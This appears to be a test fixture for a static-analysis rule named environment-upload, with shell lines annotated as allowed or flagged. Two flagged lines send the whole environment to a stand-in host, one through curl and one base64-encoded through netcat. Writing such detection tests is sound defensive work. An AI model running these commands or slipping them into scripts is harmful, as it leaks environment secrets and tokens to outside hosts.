#!/bin/bash
# ok: environment-upload
env | sort
# ok: environment-upload
env | grep ^PATH
# ruleid: environment-upload
env | curl -s -d @- http://203.0.113.9/collect
# ruleid: environment-upload
printenv | base64 | nc 203.0.113.9 4444
